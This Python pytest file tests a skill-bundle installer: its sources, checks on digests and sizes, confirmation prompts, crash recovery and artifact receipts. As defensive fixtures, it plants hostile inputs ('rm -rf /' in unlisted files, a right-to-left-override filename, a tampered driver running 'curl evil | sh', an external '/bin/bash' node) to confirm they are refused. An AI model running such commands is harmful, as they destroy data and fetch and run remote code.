"""Installing skills: every source kind, refusals that leave the old version working,
crash recovery, and node artifacts with receipts."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import subprocess
import sys
import tarfile
import tempfile
import textwrap
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from doraforge.paos.home import PaosHome
from doraforge.paos.store import AgentTaskStore
from doraforge.skill_runtime.archive import pack
from doraforge.skill_runtime.artifacts import verify_receipt
from doraforge.skill_runtime.errors import ArchiveError, InstallError
from doraforge.skill_runtime.installer import Installer, bundled_artifact_name, host_platform
from doraforge.skill_runtime.manifest import load_manifest
from tests.skill_runtime.loopback import Loopback, serve

SYSTEM, MACHINE = host_platform()
OTHER_ARCH = "aarch64" if MACHINE == "x86_64" else "x86_64"
REPO = Path(__file__).resolve().parents[2]

# ---------------------------------------------------------------------- builders


def _tar_gz(files: dict[str, bytes], modes: dict[str, int] | None = None) -> bytes:
    """A deterministic .tar.gz of ``files`` (sorted, fixed mtime and owner)."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for path in sorted(files):
            info = tarfile.TarInfo(path)
            info.size = len(files[path])
            info.mode = (modes or {}).get(path, 0o644)
            info.mtime = 0
            tar.addfile(info, io.BytesIO(files[path]))
    return gzip.compress(raw.getvalue(), mtime=0)


def bundle_bytes(
    name: str = "demo",
    version: str = "1.0.0",
    *,
    artifacts: str = "",
    extra: dict[str, bytes] | None = None,
    unlisted: dict[str, bytes] | None = None,
) -> bytes:
    """A packed skill bundle; with ``unlisted``, one whose inventory omits those files."""
    manifest = textwrap.dedent(
        f"""\
        manifest_version: 2
        name: {name}
        version: {version}
        description: a test skill
        skill_document: SKILL.md
        gateway_url: http://127.0.0.1:9999
        required_tools: [arm.home]
        profiles:
          sim:
            dataflow: dataflow.yml
            startup_timeout_s: 10
        """
    )
    files = {
        "skill.yaml": (manifest + artifacts).encode(),
        "SKILL.md": f"# {name} {version}\n".encode(),
        "dataflow.yml": b"nodes: []\n",
        **(extra or {}),
    }
    if unlisted:
        # pack() would list every file; a hostile archive is built by hand.
        inventory = [
            {"path": p, "size": len(b), "sha256": sha(b)} for p, b in sorted(files.items())
        ]
        files["archive-manifest.json"] = json.dumps({"format": 1, "files": inventory}).encode()
        return _tar_gz({**files, **unlisted})
    with tempfile.TemporaryDirectory() as scratch:
        bundle = Path(scratch, "bundle")
        for path, data in files.items():
            (bundle / path).parent.mkdir(parents=True, exist_ok=True)
            (bundle / path).write_bytes(data)
        return pack(bundle, Path(scratch, "bundle.tar.gz")).path.read_bytes()


def artifact_bytes(payload: bytes = b"#!/bin/sh\necho driver\n") -> bytes:
    return _tar_gz(
        {"bin/driver": payload, "share/config.yml": b"rate: 30\n"}, {"bin/driver": 0o755}
    )


def node_lock(sha256: str, *, arch: str = MACHINE, resolver: str = "local") -> str:
    return textwrap.dedent(
        f"""\
        artifacts:
          resolver: {resolver}
          nodes:
            arm:
              artifact_id: arm-driver
              version: 0.3.0
              platform: {SYSTEM}
              arch: {arch}
              artifact_type: executable_tar_gz
              entrypoint: bin/driver
              sha256: {sha256}
        """
    )


def write(path: Path, data: bytes) -> str:
    path.write_bytes(data)
    return str(path)


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def index_doc(*packages: dict[str, Any]) -> bytes:
    return json.dumps({"schema_version": 3, "packages": list(packages)}).encode()


def package(
    key: str, version: str, url: str, data: bytes, kind: str = "skill", **over: Any
) -> dict[str, Any]:
    entry = {
        "package_key": key,
        "version": version,
        "kind": kind,
        "direct_download_url": url,
        "sha256": sha(data),
        "size": len(data),
    }
    return {**entry, **over}


# ---------------------------------------------------------------------- fixtures


@pytest.fixture
def home(tmp_path: Path) -> PaosHome:
    return PaosHome(tmp_path / "home")


@pytest.fixture
def installer(home: PaosHome) -> Installer:
    return Installer(home, runtime_state=lambda _name: None)


@pytest.fixture
def server() -> Iterator[Loopback]:
    with serve() as running:
        yield running


@pytest.fixture
def client() -> Iterator[httpx.Client]:
    with httpx.Client(timeout=10.0) as http:
        yield http


def installed_version(home: PaosHome, name: str = "demo", which: str = "current") -> str:
    return load_manifest(home.skills_dir / name / which).version


def cached(home: PaosHome) -> list[str]:
    return sorted(p.name for p in home.cache_dir.iterdir()) if home.cache_dir.exists() else []


# ---------------------------------------------------------------------- sources


def test_install_from_a_local_archive(tmp_path: Path, home: PaosHome, installer: Installer) -> None:
    data = bundle_bytes()
    result = installer.install(write(tmp_path / "demo.tar.gz", data), yes=True)
    assert (result.name, result.version, result.previous_version) == ("demo", "1.0.0", None)
    assert result.sha256 == sha(data)
    assert result.path == home.skills_dir / "demo" / "current"
    assert (result.path / "SKILL.md").read_text() == "# demo 1.0.0\n"
    assert [(s.name, s.version) for s in installer.list()] == [("demo", "1.0.0")]
    assert cached(home) == [sha(data)]


def test_install_from_a_local_index_picks_the_highest_version(
    tmp_path: Path, home: PaosHome, installer: Installer
) -> None:
    old, new = bundle_bytes(version="1.2.0"), bundle_bytes(version="1.10.0")
    write(tmp_path / "demo-1.2.0.tar.gz", old)
    write(tmp_path / "demo-1.10.0.tar.gz", new)
    index = write(
        tmp_path / "index.json",
        index_doc(
            package("demo", "1.2.0", "demo-1.2.0.tar.gz", old),
            package("demo", "1.10.0", "demo-1.10.0.tar.gz", new),
        ),
    )
    assert installer.install(index, yes=True).version == "1.10.0"
    assert installer.install(index, yes=True, version="1.2.0").previous_version == "1.10.0"
    assert installed_version(home) == "1.2.0"


def test_install_from_an_index_served_over_http(
    home: PaosHome, installer: Installer, server: Loopback
) -> None:
    data = bundle_bytes()
    server.routes["/dl/demo.tar.gz"] = data
    server.routes["/index.json"] = index_doc(package("demo", "1.0.0", "dl/demo.tar.gz", data))
    result = installer.install(server.url("/index.json"), yes=True, name="demo")
    assert result.version == "1.0.0"
    assert server.gets("/dl/demo.tar.gz") == [None]


def test_install_from_a_registry(home: PaosHome, installer: Installer, server: Loopback) -> None:
    v1, v2 = bundle_bytes(version="1.0.0"), bundle_bytes(version="2.0.0-rc.1")
    server.routes["/files/v1"] = v1
    server.routes["/files/v2"] = v2
    server.routes["/v1/skills/demo"] = json.dumps(
        {
            "name": "demo",
            "versions": [
                {"version": "1.0.0", "direct_download_url": "/files/v1", "sha256": sha(v1),
                 "size": len(v1)},
                {"version": "2.0.0-rc.1", "direct_download_url": server.url("/files/v2"),
                 "sha256": sha(v2), "size": len(v2)},
            ],
        }
    ).encode()  # fmt: skip
    result = installer.install(server.base + "/", yes=True, name="demo")
    assert result.version == "2.0.0-rc.1"
    assert installer.install(server.base, yes=True, name="demo", version="1.0.0").version == "1.0.0"


def test_index_errors_name_the_field(tmp_path: Path, installer: Installer) -> None:
    data = bundle_bytes()
    index = write(
        tmp_path / "index.json",
        index_doc(package("demo", "1.0.0", "demo.tar.gz", data, sha256="zz")),
    )
    with pytest.raises(InstallError) as caught:
        installer.install(index, yes=True)
    assert caught.value.code == "SKILL_SOURCE_INVALID"
    assert caught.value.details["field"] == "packages[0].sha256"


def test_bundle_other_than_the_resolved_one_is_refused(
    tmp_path: Path, home: PaosHome, installer: Installer
) -> None:
    data = bundle_bytes(version="9.9.9")
    write(tmp_path / "demo.tar.gz", data)
    index = write(tmp_path / "index.json", index_doc(package("demo", "1.0.0", "demo.tar.gz", data)))
    with pytest.raises(InstallError) as caught:
        installer.install(index, yes=True)
    assert caught.value.code == "SKILL_INSTALL_MISMATCH"
    assert not (home.skills_dir / "demo").exists()


# ---------------------------------------------------------------------- refusals


@pytest.fixture
def installed_v1(tmp_path: Path, installer: Installer) -> str:
    installer.install(write(tmp_path / "v1.tar.gz", bundle_bytes()), yes=True)
    return "1.0.0"


@pytest.mark.parametrize(
    ("over", "code"),
    [
        ({"sha256": "0" * 64}, "SKILL_DOWNLOAD_DIGEST_MISMATCH"),
        ({"size": 12}, "SKILL_DOWNLOAD_SIZE_MISMATCH"),
    ],
)
def test_mismatched_download_is_refused_and_the_old_version_kept(
    home: PaosHome,
    installer: Installer,
    installed_v1: str,
    server: Loopback,
    over: dict[str, Any],
    code: str,
) -> None:
    data = bundle_bytes(version="2.0.0")
    server.routes["/demo.tar.gz"] = data
    server.routes["/index.json"] = index_doc(package("demo", "2.0.0", "demo.tar.gz", data, **over))
    before = cached(home)
    with pytest.raises(InstallError) as caught:
        installer.install(server.url("/index.json"), yes=True)
    assert caught.value.code == code
    assert cached(home) == before  # no entry, no partial
    assert installed_version(home) == installed_v1


def test_download_over_the_size_cap_is_refused(home: PaosHome, server: Loopback) -> None:
    data = bundle_bytes()
    server.routes["/demo.tar.gz"] = data
    server.routes["/index.json"] = index_doc(package("demo", "1.0.0", "demo.tar.gz", data))
    capped = Installer(home, runtime_state=lambda _n: None, max_download_bytes=len(data) - 1)
    with pytest.raises(InstallError) as caught:
        capped.install(server.url("/index.json"), yes=True)
    assert caught.value.code == "SKILL_DOWNLOAD_TOO_LARGE"
    assert server.gets("/demo.tar.gz") == []


def test_installation_needs_confirmation(tmp_path: Path, home: PaosHome) -> None:
    source = write(tmp_path / "demo.tar.gz", bundle_bytes())
    with pytest.raises(InstallError) as caught:
        Installer(home, runtime_state=lambda _n: None).install(source)
    assert caught.value.code == "SKILL_INSTALL_NOT_CONFIRMED"
    assert not (home.skills_dir / "demo").exists()

    asked: list[str] = []

    def confirm(question: str) -> bool:
        asked.append(question)
        return True

    agreeing = Installer(home, runtime_state=lambda _n: None, confirm=confirm)
    assert agreeing.install(source).version == "1.0.0"
    assert asked == ["Install skill demo 1.0.0?"]


HOOKED_DATAFLOW = b"""\
nodes:
  - id: gateway
    path: python
    args: -m doraforge.gateway --config ${PAOS_SKILL_ROOT}/gateway.yml
  - id: driver
    path: nodes/driver.py
  - id: runtime
    path: ${FORGE_RUNTIME_BIN}/python
    args: -m doraforge.nodes.mock
"""


def test_the_confirmation_and_the_result_list_the_hook_and_every_node_command(
    tmp_path: Path, home: PaosHome
) -> None:
    extra = {
        "dataflow.yml": HOOKED_DATAFLOW,
        "nodes/driver.py": b"print('driver')\n",
        "start.sh": b"echo hi\n",
    }
    source = write(tmp_path / "demo.tar.gz", bundle_bytes(extra=extra))
    asked: list[str] = []

    def confirm(question: str) -> bool:
        asked.append(question)
        return True

    result = Installer(home, runtime_state=lambda _n: None, confirm=confirm).install(source)

    listing = [
        "hook (bundle): bash start.sh",
        "sim/gateway (path): python -m doraforge.gateway --config ${PAOS_SKILL_ROOT}/gateway.yml",
        "sim/driver (bundle): nodes/driver.py",
        "sim/runtime (runtime): ${FORGE_RUNTIME_BIN}/python -m doraforge.nodes.mock",
    ]
    assert result.code.lines() == listing
    assert asked == [
        "demo 1.0.0 runs, as your user:\n"
        + "".join(f"  {line}\n" for line in listing)
        + "Install skill demo 1.0.0?"
    ]


@pytest.mark.parametrize(
    "path",
    ["/bin/bash", "../../../../bin/sh", "$HOME/run.sh"],
    ids=["absolute", "escaping", "dora-variable"],
)
def test_a_node_command_from_outside_the_bundle_needs_the_operators_explicit_allowance(
    tmp_path: Path, home: PaosHome, path: str
) -> None:
    dataflow = f"nodes:\n  - id: shell\n    path: {path}\n    args: -c 'id'\n".encode()
    source = write(tmp_path / "demo.tar.gz", bundle_bytes(extra={"dataflow.yml": dataflow}))
    installer = Installer(home, runtime_state=lambda _n: None)

    with pytest.raises(InstallError) as refused:
        installer.install(source, yes=True)

    assert refused.value.code == "SKILL_INSTALL_EXTERNAL_COMMAND"
    assert refused.value.details == {"nodes": ["sim/shell"]}
    assert "--allow-external-commands" in refused.value.message
    assert not (home.skills_dir / "demo").exists()
    allowed = installer.install(source, yes=True, allow_external_commands=True)
    assert [n.origin for n in allowed.code.nodes] == ["external"]


@pytest.mark.parametrize("state", ["starting", "running", "stopping"])
def test_install_and_remove_are_refused_while_the_skill_runs(
    tmp_path: Path, home: PaosHome, installed_v1: str, state: str
) -> None:
    busy = Installer(home, runtime_state=lambda name: state if name == "demo" else None)
    with pytest.raises(InstallError) as caught:
        busy.install(write(tmp_path / "v2.tar.gz", bundle_bytes(version="2.0.0")), yes=True)
    assert caught.value.code == "SKILL_INSTALL_RUNNING"
    with pytest.raises(InstallError) as caught:
        busy.remove("demo")
    assert caught.value.code == "SKILL_REMOVE_RUNNING"
    assert installed_version(home) == installed_v1


def test_a_corrupt_runtime_state_file_fails_closed(
    tmp_path: Path, home: PaosHome, installed_v1: str
) -> None:
    home.runtime_dir.mkdir(parents=True)
    (home.runtime_dir / "demo.json").write_text("{not json")
    with pytest.raises(InstallError) as caught:
        Installer(home).install(write(tmp_path / "v2.tar.gz", bundle_bytes()), yes=True)
    assert caught.value.code == "SKILL_INSTALL_RUNNING"


def test_install_is_refused_while_an_active_task_is_bound_to_the_skill(
    tmp_path: Path, home: PaosHome, installed_v1: str
) -> None:
    store = AgentTaskStore(home.store_path)
    try:
        store.put_binding("bind-1", "sha", {"skill": "demo", "version": "1.0.0"})
        store.create_task(
            task_id="task-1", revision_id="rev-1", binding_id="bind-1", goal="g", contract={}
        )
        bound = Installer(home, store=store, runtime_state=lambda _n: "stopped")
        with pytest.raises(InstallError) as caught:
            bound.install(write(tmp_path / "v2.tar.gz", bundle_bytes(version="2.0.0")), yes=True)
        assert caught.value.code == "SKILL_INSTALL_IN_USE"
        assert caught.value.details["task_id"] == "task-1"
        # The default store is the home's own: the same refusal without passing one.
        with pytest.raises(InstallError):
            Installer(home, runtime_state=lambda _n: None).remove("demo")
        assert installed_version(home) == installed_v1
    finally:
        store.close()


def test_an_archive_failing_its_inventory_leaves_the_old_version(
    tmp_path: Path, home: PaosHome, installer: Installer
) -> None:
    installer.install(write(tmp_path / "v1.tar.gz", bundle_bytes()), yes=True)
    evil = bundle_bytes(version="2.0.0", unlisted={"payload.sh": b"rm -rf /\n"})
    with pytest.raises(ArchiveError):
        installer.install(write(tmp_path / "evil.tar.gz", evil), yes=True)
    assert installed_version(home) == "1.0.0"
    assert [p.name for p in home.skills_dir.iterdir() if p.name.startswith(".staging")] == []


def _with_inventory_text(bundle: bytes, edit: Callable[[str], str]) -> bytes:
    """``bundle`` rebuilt with its ``archive-manifest.json`` text passed through ``edit``."""
    with tarfile.open(fileobj=io.BytesIO(bundle), mode="r:gz") as tar:
        files = {m.name: tar.extractfile(m).read() for m in tar if m.isfile()}  # type: ignore[union-attr]
    files["archive-manifest.json"] = edit(files["archive-manifest.json"].decode()).encode()
    return _tar_gz(files)


@pytest.mark.parametrize(
    ("evil", "code"),
    [
        (
            lambda: bundle_bytes(version="2.0.0", unlisted={"run\u202etxt.sh": b"rm -rf /\n"}),
            "ARCHIVE_PATH_CONTROL_CHARACTER",
        ),
        (
            lambda: bundle_bytes(version="2.0.0", unlisted={"SKILL.md\u200b": b"# decoy\n"}),
            "ARCHIVE_PATH_CONTROL_CHARACTER",
        ),
        (
            lambda: _with_inventory_text(
                bundle_bytes(version="2.0.0"),
                lambda text: text.replace('"format": 1', '"format": 2, "format": 1'),
            ),
            "ARCHIVE_MANIFEST_DUPLICATE_KEY",
        ),
    ],
    ids=["right-to-left override", "zero-width space", "duplicate inventory key"],
)
def test_a_hidden_character_name_or_a_repeated_inventory_key_leaves_the_old_version(
    tmp_path: Path, home: PaosHome, installer: Installer, evil: Callable[[], bytes], code: str
) -> None:
    installer.install(write(tmp_path / "v1.tar.gz", bundle_bytes()), yes=True)
    with pytest.raises(ArchiveError) as caught:
        installer.install(write(tmp_path / "evil.tar.gz", evil()), yes=True)
    assert caught.value.code == code
    assert installed_version(home) == "1.0.0"
    assert [p.name for p in home.skills_dir.iterdir() if p.name.startswith(".staging")] == []


# ---------------------------------------------------------------------- swap and recovery


def test_upgrade_keeps_the_previous_version_as_backup(
    tmp_path: Path, home: PaosHome, installer: Installer
) -> None:
    for version in ("1.0.0", "1.1.0", "1.2.0"):
        result = installer.install(
            write(tmp_path / f"{version}.tar.gz", bundle_bytes(version=version)), yes=True
        )
    assert result.previous_version == "1.1.0"
    assert installed_version(home) == "1.2.0"
    assert installed_version(home, which="previous") == "1.1.0"
    [listed] = installer.list()
    assert (listed.version, listed.previous_version) == ("1.2.0", "1.1.0")
    record = installer.inspect("demo")
    assert record["install"]["previous_version"] == "1.1.0"
    assert {f["path"] for f in record["archive_manifest"]["files"]} == {
        "SKILL.md",
        "dataflow.yml",
        "skill.yaml",
    }


def test_failure_after_the_swap_restores_both_versions(
    tmp_path: Path, home: PaosHome, installer: Installer
) -> None:
    for version in ("1.0.0", "1.1.0"):
        source = write(tmp_path / f"{version}.tar.gz", bundle_bytes(version=version))
        installer.install(source, yes=True)

    def fail() -> None:
        raise OSError("disk full")

    installer._after_swap = fail
    with pytest.raises(OSError, match="disk full"):
        installer.install(write(tmp_path / "2.tar.gz", bundle_bytes(version="2.0.0")), yes=True)
    assert installed_version(home) == "1.1.0"
    assert installed_version(home, which="previous") == "1.0.0"
    assert installer.inspect("demo")["install"]["version"] == "1.1.0"


CRASHING_INSTALL = """
import os, sys
from pathlib import Path
from doraforge.paos.home import PaosHome
from doraforge.skill_runtime.installer import Installer
installer = Installer(PaosHome(Path(sys.argv[1])), runtime_state=lambda _n: None)
installer._after_backup = lambda: os._exit(17)  # the process dies mid-swap
installer.install(sys.argv[2], yes=True)
"""


def test_crash_between_backup_and_swap_is_recovered_by_the_next_installer(
    tmp_path: Path, home: PaosHome
) -> None:
    Installer(home, runtime_state=lambda _n: None).install(
        write(tmp_path / "v1.tar.gz", bundle_bytes()), yes=True
    )
    v2 = write(tmp_path / "v2.tar.gz", bundle_bytes(version="2.0.0"))
    crashed = subprocess.run(
        [sys.executable, "-c", CRASHING_INSTALL, str(home.root), v2],
        cwd=REPO,
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert crashed.returncode == 17, crashed.stderr
    assert not (home.skills_dir / "demo" / "current").exists()  # the crash window

    recovered = Installer(home, runtime_state=lambda _n: None)
    assert installed_version(home) == "1.0.0"
    assert [s.version for s in recovered.list()] == ["1.0.0"]
    assert [p.name for p in home.skills_dir.iterdir() if p.name.startswith(".staging")] == []
    assert recovered.install(v2, yes=True).previous_version == "1.0.0"


def test_remove_deletes_the_skill(
    tmp_path: Path, home: PaosHome, installer: Installer, installed_v1: str
) -> None:
    installer.remove("demo")
    assert installer.list() == []
    with pytest.raises(InstallError) as caught:
        installer.remove("demo")
    assert caught.value.code == "SKILL_NOT_INSTALLED"


# ---------------------------------------------------------------------- node artifacts


def bundle_with_bundled_artifact(**lock_options: str) -> tuple[bytes, bytes]:
    art = artifact_bytes()
    lock = node_lock(sha(art), **lock_options)
    name = f"arm-driver-0.3.0-{SYSTEM}-{lock_options.get('arch', MACHINE)}.tar.gz"
    return bundle_bytes(artifacts=lock, extra={f"artifacts/{name}": art}), art


def test_node_artifact_is_installed_with_a_verified_receipt(
    tmp_path: Path, home: PaosHome, installer: Installer
) -> None:
    data, art = bundle_with_bundled_artifact()
    result = installer.install(write(tmp_path / "demo.tar.gz", data), yes=True)
    [artifact] = result.artifacts
    assert artifact.path == home.artifacts_dir / "arm-driver" / "0.3.0"
    receipt = verify_receipt(artifact.path)
    assert receipt.sha256 == sha(art)
    assert [f.path for f in receipt.files] == ["bin/driver", "share/config.yml"]
    assert (artifact.path / "bin" / "driver").stat().st_mode & 0o111
    assert installer.inspect("demo")["receipts"][0]["artifact_id"] == "arm-driver"


def test_tampered_artifact_is_detected_and_repaired_by_reinstall(
    tmp_path: Path, home: PaosHome, installer: Installer
) -> None:
    data, _ = bundle_with_bundled_artifact()
    source = write(tmp_path / "demo.tar.gz", data)
    root = installer.install(source, yes=True).artifacts[0].path
    (root / "bin" / "driver").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    with pytest.raises(InstallError) as caught:
        verify_receipt(root)
    assert caught.value.code == "SKILL_ARTIFACT_TAMPERED"
    with pytest.raises(InstallError):
        installer.inspect("demo")

    installer.install(source, yes=True)
    assert verify_receipt(root).files[0].path == "bin/driver"


def test_extra_file_in_an_artifact_is_detected(
    tmp_path: Path, home: PaosHome, installer: Installer
) -> None:
    data, _ = bundle_with_bundled_artifact()
    root = installer.install(write(tmp_path / "demo.tar.gz", data), yes=True).artifacts[0].path
    (root / "bin" / "helper").write_bytes(b"planted")
    with pytest.raises(InstallError) as caught:
        verify_receipt(root)
    assert caught.value.code == "SKILL_ARTIFACT_TAMPERED"


def test_artifact_for_another_architecture_is_refused(
    tmp_path: Path, home: PaosHome, installer: Installer
) -> None:
    data, _ = bundle_with_bundled_artifact(arch=OTHER_ARCH)
    with pytest.raises(InstallError) as caught:
        installer.install(write(tmp_path / "demo.tar.gz", data), yes=True)
    assert caught.value.code == "SKILL_ARTIFACT_PLATFORM"
    assert not home.artifacts_dir.exists() or not any(home.artifacts_dir.iterdir())
    assert not (home.skills_dir / "demo").exists()


def test_artifact_whose_bytes_differ_from_the_lock_is_refused(
    tmp_path: Path, home: PaosHome, installer: Installer
) -> None:
    lock = node_lock(sha(b"something else"))
    name = bundled_artifact_name_for(MACHINE)
    data = bundle_bytes(artifacts=lock, extra={f"artifacts/{name}": artifact_bytes()})
    with pytest.raises(InstallError) as caught:
        installer.install(write(tmp_path / "demo.tar.gz", data), yes=True)
    assert caught.value.code == "SKILL_DOWNLOAD_DIGEST_MISMATCH"
    assert not (home.artifacts_dir / "arm-driver").exists()


def bundled_artifact_name_for(arch: str) -> str:
    class Lock:
        artifact_id, version, platform = "arm-driver", "0.3.0", SYSTEM
        arch: str

    Lock.arch = arch
    return bundled_artifact_name(Lock)  # type: ignore[arg-type]


def test_registry_node_uses_the_lock_digest_and_a_head_for_its_size(
    home: PaosHome, server: Loopback, client: httpx.Client
) -> None:
    art = artifact_bytes()
    data = bundle_bytes(artifacts=node_lock(sha(art), resolver="registry"))
    server.routes["/files/demo"] = data
    server.routes["/files/arm"] = art
    server.routes["/v1/skills/demo"] = json.dumps(
        {"name": "demo", "versions": [{"version": "1.0.0", "direct_download_url": "/files/demo",
                                       "sha256": sha(data), "size": len(data)}]}
    ).encode()  # fmt: skip
    server.routes["/v1/forge-nodes/arm-driver"] = json.dumps(
        {"artifact_id": "arm-driver", "versions": [
            {"version": "0.3.0", "platform": SYSTEM, "arch": OTHER_ARCH,
             "direct_download_url": "/files/other"},
            # The registry's digest is not the authority; a wrong one here changes nothing.
            {"version": "0.3.0", "platform": SYSTEM, "arch": MACHINE,
             "direct_download_url": "/files/arm", "sha256": "0" * 64},
        ]}
    ).encode()  # fmt: skip
    installer = Installer(home, runtime_state=lambda _n: None, client=client)
    result = installer.install(server.base, yes=True, name="demo")
    assert verify_receipt(result.artifacts[0].path).sha256 == sha(art)
    assert ("HEAD", "/files/arm", None) in server.requests
    assert server.gets("/files/other") == []


def test_node_listed_in_the_index_is_fetched_from_it(
    tmp_path: Path, home: PaosHome, installer: Installer
) -> None:
    art = artifact_bytes()
    data = bundle_bytes(artifacts=node_lock(sha(art)))
    write(tmp_path / "demo.tar.gz", data)
    write(tmp_path / "arm.tar.gz", art)
    index = write(
        tmp_path / "index.json",
        index_doc(
            package("demo", "1.0.0", "demo.tar.gz", data),
            package("arm-driver", "0.3.0", "arm.tar.gz", art, kind="forge-node"),
        ),
    )
    result = installer.install(index, yes=True)
    assert verify_receipt(result.artifacts[0].path).sha256 == sha(art)


@pytest.mark.parametrize("inventory_name", [".paos-manifest.json", "archive-manifest.json"])
def test_install_a_phyagentos_shaped_archive(
    tmp_path: Path, home: PaosHome, installer: Installer, inventory_name: str
) -> None:
    """PhyAgentOS's shape: the payload at the root, ``files`` as ``{path: sha256}``."""
    files = {
        "skill.yaml": SKILL_YAML.encode(),
        "SKILL.md": b"# paos-made\n",
        "profiles/sim/dataflow.yml": b"nodes: []\n",
    }
    inventory = {"files": {path: sha(data) for path, data in files.items()}}
    data = _tar_gz({**files, inventory_name: json.dumps(inventory).encode()})

    result = installer.install(write(tmp_path / "paos.tar.gz", data), yes=True)

    assert (result.name, result.version) == ("paos-made", "0.1.0")
    assert not (result.path / ".paos-manifest.json").exists()
    stored = json.loads((result.path / "archive-manifest.json").read_text())
    assert {e["path"]: (e["size"], e["sha256"]) for e in stored["files"]} == {
        path: (len(blob), sha(blob)) for path, blob in files.items()
    }
    assert installer.inspect("paos-made")["archive_manifest"] == stored


SKILL_YAML = """\
manifest_version: 2
name: paos-made
version: 0.1.0
description: a skill bundle packed the PhyAgentOS way
skill_document: SKILL.md
gateway_url: http://127.0.0.1:9999
required_tools: [arm.home]
profiles:
  sim:
    dataflow: profiles/sim/dataflow.yml
    startup_timeout_s: 10
"""
